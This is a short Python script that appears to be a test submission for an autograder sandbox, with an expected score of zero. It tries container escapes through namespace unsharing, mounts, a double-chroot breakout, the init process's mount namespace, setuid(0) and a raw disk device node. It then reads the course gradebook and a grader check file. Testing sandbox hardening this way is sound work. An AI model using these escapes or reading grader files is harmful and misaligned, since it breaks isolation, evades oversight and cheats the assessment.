# points: 0
# Asks the system for other namespaces, another root, a mount: the ways out of a container.
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x00020000, 0x20000000, 0x40000000):
    print("unshare", libc.unshare(flags), os.strerror(ctypes.get_errno()))
os.makedirs("out", exist_ok=True)
print("mount", libc.mount(b"/", b"out", None, 4096, None), os.strerror(ctypes.get_errno()))
print("mount", libc.mount(b"proc", b"out", b"proc", 0, None), os.strerror(ctypes.get_errno()))
print("umount", libc.umount2(b"__PACKAGE__", 2), os.strerror(ctypes.get_errno()))
for action in (
    lambda: os.chroot("out"),
    lambda: [os.chroot("out"), [os.chdir("..") for _ in range(40)], os.chroot(".")],
    lambda: os.open("/proc/1/ns/mnt", os.O_RDONLY),
    lambda: os.setuid(0),
    lambda: os.mknod("disk", 0o60666, os.makedev(8, 0)),
):
    try:
        print(action())
    except OSError as error:
        print(error)
print(open("__COURSE__/gradebook/notes.txt").read())
print(open("__PACKAGE__/checks/a01_backprop_worksheets/bias_gradients.py").read())
